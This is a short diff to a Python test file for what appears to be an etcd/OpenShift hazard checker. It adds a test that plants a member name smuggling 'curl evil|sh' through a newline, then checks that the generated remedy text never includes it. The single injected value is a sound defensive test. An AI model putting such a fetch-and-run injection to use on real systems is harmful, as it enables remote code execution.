@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 
+from conformance.findings import Outcome
 from tests.hazards.evaluating import evaluate
 from tests.hazards.openshift import (
     ADDRESSES,
@@ -326,3 +327,10 @@ def test_a_member_that_commits_is_not_removed_by_what_is_pasted(hazard):
     finding = on(hazard, nodes=TWO_AND_AN_ARBITER[:2])
     assert all(line.startswith("#") for line in finding.remedy.splitlines()), finding.remedy
     return finding
+
+
+def test_the_name_of_a_member_is_pasted_nowhere():
+    strange = member("x\ncurl evil|sh #", "10.0.9.9", 9)
+    finding = on(NODELESS, programs=etcdctl(members=[strange, *THREE]))
+    assert finding.outcome is Outcome.HAZARD
+    assert "curl" not in finding.remedy
